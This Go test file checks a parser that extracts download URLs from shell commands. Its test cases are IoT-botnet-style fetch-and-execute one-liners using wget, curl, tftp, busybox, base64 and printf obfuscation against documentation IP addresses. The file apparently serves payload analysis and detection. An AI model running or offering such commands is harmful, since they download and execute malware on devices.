package shell

import (
	"slices"
	"testing"
)

func TestDownloads(t *testing.T) {
	for _, tc := range []struct {
		name, src string
		want      []string
	}{
		{"wget chain", "cd /tmp; wget http://192.0.2.1/x.sh; chmod 777 x.sh; sh x.sh", []string{"wget http://192.0.2.1/x.sh"}},
		{"busybox and ifs", "busybox${IFS}wget${IFS}http://192.0.2.1/bins/mips${IFS}-O${IFS}/tmp/gpon", []string{"wget http://192.0.2.1/bins/mips"}},
		{"backticks", "`cd /tmp && tftp -g -r mips 192.0.2.2 && chmod +x mips`", []string{"tftp tftp://192.0.2.2:69/mips"}},
		{"subst and -g", "$(/bin/busybox wget -g 198.51.100.3 -l /tmp/huawei -r /okiru.mips; /tmp/huawei huawei.exploit)", []string{"wget http://198.51.100.3/okiru.mips"}},
		{"curl pipe", "curl -s http://192.0.2.3:8080/a.sh | sh || wget -qO- 192.0.2.3/b.sh | sh", []string{"curl http://192.0.2.3:8080/a.sh", "wget http://192.0.2.3/b.sh"}},
		{"ftpget", "ftpget -v -u anonymous -p x 192.0.2.4 local.bin remote.bin", []string{"ftpget ftp://anonymous:x@192.0.2.4:21/remote.bin"}},
		{"base64 sh", "echo d2dldCBodHRwOi8vMTkyLjAuMi41L3guc2g= | base64 -d | sh", []string{"wget http://192.0.2.5/x.sh"}},
		{"sh -c", `sh -c "wget http://192.0.2.6/y -O /tmp/y"`, []string{"wget http://192.0.2.6/y"}},
		{"eval var", `u=http://192.0.2.7; eval "wget $u/z"`, []string{"wget http://192.0.2.7/z"}},
		{"for arches", "for a in mips mpsl arm7; do wget http://192.0.2.8/bins/x.$a -O /tmp/x; done", []string{"wget http://192.0.2.8/bins/x.mips", "wget http://192.0.2.8/bins/x.mpsl", "wget http://192.0.2.8/bins/x.arm7"}},
		{"case branches", "case $(uname -m) in mips) wget http://192.0.2.9/m;; arm*) wget http://192.0.2.9/a;; esac", []string{"wget http://192.0.2.9/m", "wget http://192.0.2.9/a"}},
		{"printf escapes", `printf '\x77get http://192.0.2.10/p' | sh`, []string{"wget http://192.0.2.10/p"}},
		{"cut line", "wget http://192.0.2.11/ok\nif then (", []string{"wget http://192.0.2.11/ok"}},
		{"no download", "cat /proc/cpuinfo; echo wget", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, d := range Downloads(tc.src) {
				got = append(got, d.Tool+" "+d.URL)
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("Downloads(%q)\n got %q\nwant %q", tc.src, got, tc.want)
			}
		})
	}
}

func FuzzDownloads(f *testing.F) {
	f.Add("wget http://192.0.2.1/x; sh x")
	f.Add("echo aGk= | base64 -d | sh")
	f.Add("for a in $(seq 1 9); do eval \"$a\"; done")
	f.Fuzz(func(t *testing.T, src string) {
		ds := Downloads(src)
		if len(ds) > maxDownloads {
			t.Fatalf("%d downloads", len(ds))
		}
	})
}

func TestScanCommands(t *testing.T) {
	got := Scan("`cd /tmp; busybox wget x -O y`;/bin/chmod 777 y; nohup ./y &").Commands
	want := []string{"cd", "wget", "chmod", "y"}
	if !slices.Equal(got, want) {
		t.Errorf("Commands = %q, want %q", got, want)
	}
}
